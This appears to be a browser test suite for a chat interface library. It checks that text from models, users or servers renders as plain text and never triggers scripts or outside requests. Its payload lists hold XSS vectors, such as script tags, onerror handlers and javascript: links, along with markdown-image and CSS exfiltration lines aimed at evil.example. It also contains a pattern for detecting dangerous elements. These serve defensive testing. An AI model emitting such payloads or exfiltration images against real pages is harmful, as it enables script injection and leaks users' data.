"""Nothing that a model, a user or a server says becomes markup, code or a request."""

from __future__ import annotations

import json
from typing import Any

import pytest
from playwright.async_api import expect

from tests.browser.looking import Watched
from tests.browser.scripted_server import ScriptedServer

pytestmark = pytest.mark.browser

PAYLOADS = [
    "<img src=x onerror=window.pwned=1>",
    "<script>window.pwned=1</script>",
    "<svg/onload=window.pwned=1>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "[click](javascript:window.pwned=1)",
    "[click](JaVa\tScRiPt:window.pwned=1)",
    "[click](data:text/html,<script>window.pwned=1</script>)",
    "![x](javascript:window.pwned=1)",
    "![steal](https://evil.example/?q=secret)",
    "![x](//evil.example/a.png)",
    '[a](https://x.y" onmouseover="window.pwned=1)',
    "<https://evil.example/auto>",
    "<a href='javascript:window.pwned=1'>x</a>",
    "[x]: javascript:window.pwned=1\n\n[x]",
    "$$\\href{javascript:window.pwned=1}{x}$$",
    "```html\n<script>window.pwned=1</script>\n```",
    "| <img src=x onerror=window.pwned=1> |\n|---|\n| <b onclick=window.pwned=1>x</b> |",
    "<style>*{background:url(https://evil.example/css)}</style>",
    "&lt;img src=x onerror=window.pwned=1&gt;",
    "\u202ejavascript:window.pwned=1",
]
STYLES = [
    "url(https://evil.example/x)",
    "red;background:url(//evil.example)",
    "expression(1)",
    "var(--x)",
    "}*{color:red",
]


def widget_with(text: str) -> dict[str, Any]:
    """Every component that shows text or takes an address, each with this one."""
    texts: list[dict[str, Any]] = [
        {"type": kind, "value": text, "id": text} for kind in ("Text", "Title", "Caption", "Markdown")
    ]
    return {
        "type": "Card",
        "background": text,
        "status": {"text": text, "favicon": text},
        "confirm": {"label": text, "action": {"type": text}},
        "children": [
            *texts,
            {"type": "Badge", "label": text},
            {"type": "Button", "label": text, "iconStart": text},
            {"type": "Image", "src": text, "alt": text},
            {"type": "Image", "src": "https://evil.example/pixel.png", "alt": text},
            {"type": "Icon", "name": text, "color": text},
            {"type": "Label", "value": text, "fieldName": text},
            {"type": "Input", "name": text, "placeholder": text, "defaultValue": text, "pattern": text},
            {"type": "Select", "name": text, "options": [{"value": text, "label": text}], "defaultValue": text},
            {"type": "RadioGroup", "name": text, "options": [{"value": text, "label": text}]},
            {"type": "Checkbox", "name": text, "label": text},
            {
                "type": "Chart",
                "xAxis": "k",
                "data": [{"k": text, "v": 1}],
                "series": [{"type": "bar", "dataKey": "v", "label": text, "color": text}],
            },
            {"type": "Box", "background": text, "width": text, "padding": text, "border": {"size": 1, "color": text}},
        ],
    }  # fmt: skip


async def open_thread(watched: Watched, items: list[dict[str, Any]], title: str) -> None:
    """A thread with these items, from a fetch that never leaves the page."""
    thread = {"id": "t", "title": title, "items": {"data": items, "has_more": False}}
    await watched.start_with(
        f"""{{ initialThread: 't', disclaimer: {{ text: {json.dumps(title)} }},
              startScreen: {{ greeting: {json.dumps(title)} }},
              api: {{ fetch: async () => new Response(JSON.stringify({json.dumps(thread)})) }} }}"""
    )


async def harm(watched: Watched) -> dict[str, Any]:
    """What ran, and every element or attribute that could run or ask something."""
    found: dict[str, Any] = await watched.page.evaluate(
        """() => {
          const root = document.getElementById('chat').shadowRoot;
          const never = 'script, iframe, object, embed, style, link, base, meta, svg image, [srcdoc]';
          const bad = [...root.querySelectorAll(never)];
          for (const element of root.querySelectorAll('*')) {
            for (const { name, value } of element.attributes) {
              if (/^on/i.test(name)) bad.push(element);
              const address = ['href', 'src', 'action', 'formaction', 'xlink:href'].includes(name);
              if (address && /^[\\s\\u0000-\\u0020]*(javascript|vbscript|data:text)/i.test(value)) bad.push(element);
            }
            const style = element.getAttribute('style') ?? '';
            if (/url\\(|expression|var\\(--x/.test(style)) bad.push(element);
          }
          return { pwned: window.pwned ?? null, bad: bad.map((element) => element.outerHTML.slice(0, 200)) };
        }"""
    )
    return found


@pytest.mark.parametrize("at", range(0, len(PAYLOADS), 5))
async def test_text_stays_text_wherever_it_stands(watched: Watched, at: int) -> None:
    watched.forgive("404")  # nonsense in the place of an address is a path on this server: harmless, and not found
    items: list[dict[str, Any]] = []
    for number, text in enumerate(PAYLOADS[at : at + 5] + STYLES):
        tag = {"type": "input_tag", "id": text, "text": text, "data": {}, "interactive": True}
        source = {"type": "url", "title": text, "url": text, "attribution": text}
        attachment = {"type": "image", "id": f"f{number}", "name": text, "mime_type": "image/png", "preview_url": text}
        task = {"type": "custom", "title": text, "content": text, "icon": text}
        items += [
            {
                "type": "user_message",
                "content": [{"type": "input_text", "text": text}, tag],
                "attachments": [attachment],
                "quoted_text": text,
                "inference_options": {},
            },
            {
                "type": "assistant_message",
                "content": [
                    {
                        "type": "output_text",
                        "text": text,
                        "annotations": [{"type": "annotation", "source": source, "index": 3}],
                    }
                ],
            },
            {"type": "widget", "widget": widget_with(text)},
            {
                "type": "workflow",
                "workflow": {"type": "custom", "expanded": True, "summary": {"title": text}, "tasks": [task]},
            },
            {"type": "generated_image", "image": {"id": "i", "url": text}},
        ]
    for number, item in enumerate(items):
        item["id"] = f"i{number}"
    await open_thread(watched, items, PAYLOADS[at])
    await expect(watched.page.locator(".ck-card").last).to_be_attached()
    for opener in await watched.page.locator(".ck-sources summary").all():
        await opener.click()
    await watched.settle()
    found = await harm(watched)
    assert found == {"pwned": None, "bad": []}
    assert not [problem for problem in watched.problems if problem.startswith("request")]


@pytest.mark.parametrize("at", range(0, len(PAYLOADS), 10))
async def test_what_streams_stays_text_too(watched: Watched, at: int) -> None:
    """Notices, progress, errors, questions, tasks, reasons: what comes by a stream, or not by stored threads alone."""
    text = "\n".join(PAYLOADS[at : at + 10])
    choice = {
        "type": "multiple_choice",
        "id": text,
        "question": text,
        "description": text,
        "options": [{"value": text}],
    }
    source = {"type": "url", "title": text, "url": text, "attribution": text, "description": text, "timestamp": text}
    task = {"type": "web_search", "title": text, "title_query": text, "queries": [text], "sources": [source]}
    flow = {"type": "reasoning", "expanded": True, "tasks": [task, {"type": "thought", "title": text, "content": text}]}
    rows = [{"type": "Table.Row", "header": True, "children": [{"type": "Table.Cell", "children": [text_node(text)]}]}]
    tree = {
        "type": "ListView",
        "status": {"text": text, "icon": text},
        "children": [
            {"type": "ListViewItem", "children": [{"type": "Table", "children": rows}]},
            {"type": "ListViewItem", "children": [{"type": "Textarea", "name": "t", "placeholder": text}]},
            {"type": "ListViewItem", "children": [{"type": "DatePicker", "name": "d", "placeholder": text}]},
            {"type": "ListViewItem", "children": [text_node(text) | {"editable": {"name": "e", "placeholder": text}}]},
        ],
    }
    status = {"type": "locked", "reason": text}
    events = [
        {"type": "thread.created", "thread": {"id": "t", "title": text, "items": {"data": [], "has_more": False}}},
        {"type": "progress_update", "icon": text, "text": text},
        {"type": "notice", "level": "warning", "title": text, "message": text},
        {"type": "thread.item.done", "item": {"id": "f", "type": "workflow", "workflow": flow}},
        {"type": "thread.item.done", "item": {"id": "w", "type": "widget", "widget": tree}},
        {
            "type": "thread.item.done",
            "item": {"id": "s", "type": "structured_input", "status": "pending", "inputs": [choice]},
        },
        {"type": "error", "code": "custom", "message": text, "allow_retry": True},
        {"type": "thread.updated", "thread": {"id": "t", "title": text, "status": status}},
    ]
    body = "".join(f"data: {json.dumps(event)}\n\n" for event in events)
    answer = f"new Response({json.dumps(body)}, {{ headers: {{ 'content-type': 'text/event-stream' }} }})"
    await watched.start_with(f"{{ api: {{ fetch: async () => {answer} }} }}")
    await watched.ask("hello")
    await expect(watched.page.locator(".ck-notice")).to_be_visible()
    await expect(watched.page.locator(".ck-structured legend")).to_be_visible()
    await expect(watched.page.locator(".ck-inline-error")).to_be_visible()
    assert await harm(watched) == {"pwned": None, "bad": []}
    await watched.page.get_by_role("button", name="Skip all").click()
    await watched.has_heard("response.end", 2)
    await expect(watched.page.locator(".ck-notice")).to_have_count(1)
    assert await harm(watched) == {"pwned": None, "bad": []}
    assert not [problem for problem in watched.problems if problem.startswith("request")]


def text_node(text: str) -> dict[str, Any]:
    return {"type": "Text", "value": text}


async def test_file_names_titles_and_errors_are_text_too(watched: Watched, scripted: ScriptedServer) -> None:
    await watched.start(
        {
            "api": {"uploadStrategy": {"type": "two_phase"}},
            "composer": {"attachments": {"enabled": True}, "placeholder": PAYLOADS[0]},
            "header": {"title": {"text": PAYLOADS[1]}},
        }
    )
    await watched.page.locator("input[type=file]").set_input_files(
        {"name": PAYLOADS[2].replace("/", "_"), "mimeType": "text/plain", "buffer": b"abc"}
    )
    await watched.has_uploaded()
    await watched.ask(f"title {PAYLOADS[0]}")
    await watched.page.get_by_role("button", name="History", exact=True).click()
    await expect(watched.page.get_by_role("dialog", name="History").get_by_text(PAYLOADS[0])).to_be_visible()
    assert await watched.page.evaluate("() => window.pwned ?? null") is None


async def test_a_picture_from_elsewhere_waits_for_a_click(watched: Watched) -> None:
    await watched.start()
    await watched.ask("say ![steal](https://evil.example/?q=secret)")
    await expect(watched.page.get_by_role("button", name="Load image from evil.example")).to_be_visible()
    await watched.settle()


async def test_a_picture_of_this_very_server_waits_for_a_click_as_well(watched: Watched) -> None:
    """What a model wrote is no leave to ask: an address of ours can act, or tell by being asked for."""
    page = watched.page
    card = {
        "type": "Card",
        "status": {"text": "x", "favicon": "/static/icon.svg?favicon"},
        "children": [{"type": "Image", "src": "/static/icon.svg?card", "alt": "card", "size": 40}],
    }
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url) if "icon.svg" in request.url else None)
    await watched.start()
    await watched.ask(f"say ![x]({watched.origin}/static/icon.svg?text) ![y](/static/icon.svg)")
    await watched.ask(f"widget {json.dumps(card)}")
    waiting = page.get_by_role("button", name="Load image from 127.0.0.1")
    await expect(waiting).to_have_count(2)  # a relative address in a text is none
    await watched.settle()
    assert asked == []
    async with page.expect_response(lambda response: "icon.svg?text" in response.url):
        await waiting.first.click()
    assert len(asked) == 1


async def test_a_click_for_one_picture_is_none_for_another_that_takes_its_place(watched: Watched) -> None:
    page = watched.page

    def items(address: str) -> list[dict[str, Any]]:
        return [
            {
                "id": "a",
                "type": "assistant_message",
                "content": [{"type": "output_text", "text": f"![x]({watched.origin}/static/{address}text)"}],
            },
            {
                "id": "w",
                "type": "widget",
                "widget": {
                    "type": "Card",
                    "children": [{"type": "Image", "src": f"/static/{address}card", "size": 40}],
                },
            },
        ]

    thread = {"id": "t", "title": "x", "items": {"data": [], "has_more": False}}
    first = [{"type": "thread.created", "thread": thread}]
    first += [{"type": "thread.item.done", "item": item} for item in items("icon.svg?one-")]
    second = [{"type": "thread.item.replaced", "item": item} for item in items("icon.svg?two-")]
    bodies = ["".join(f"data: {json.dumps(event)}\n\n" for event in events) for events in (first, second)]
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url) if "icon.svg" in request.url else None)
    await watched.start_with(
        f"""{{ api: {{ fetch: async () => new Response({json.dumps(bodies)}[window.asked = 1 + (window.asked ?? -1)],
              {{ headers: {{ 'content-type': 'text/event-stream' }} }}) }} }}"""
    )
    await watched.ask("one")
    waiting = page.get_by_role("button", name="Load image from 127.0.0.1")
    for name in ("one-text", "one-card"):
        async with page.expect_response(lambda response, name=name: name in response.url):  # type: ignore[misc]
            await waiting.first.click()
    await expect(waiting).to_have_count(0)
    await watched.ask("two")
    await expect(waiting).to_have_count(2)
    await watched.settle()
    assert [address.rsplit("?", 1)[1] for address in asked] == ["one-text", "one-card"]


async def test_a_picture_is_not_asked_for_while_its_address_grows(watched: Watched) -> None:
    await watched.start()
    await watched.ask("allow 127.0.0.1")
    await watched.ask("markdown pictures")
    picture = watched.page.locator(".ck-assistant img")
    await expect(picture).to_have_count(1)
    await expect(picture).to_have_js_property("complete", True)  # what is still on its way is not among the entries
    asked = await watched.page.evaluate(
        """() => performance.getEntriesByType('resource').map((entry) => entry.name)
                  .filter((name) => name.includes('/static/'))"""
    )
    assert [name.rsplit("/", 1)[1] for name in asked] == ["icon.svg"]
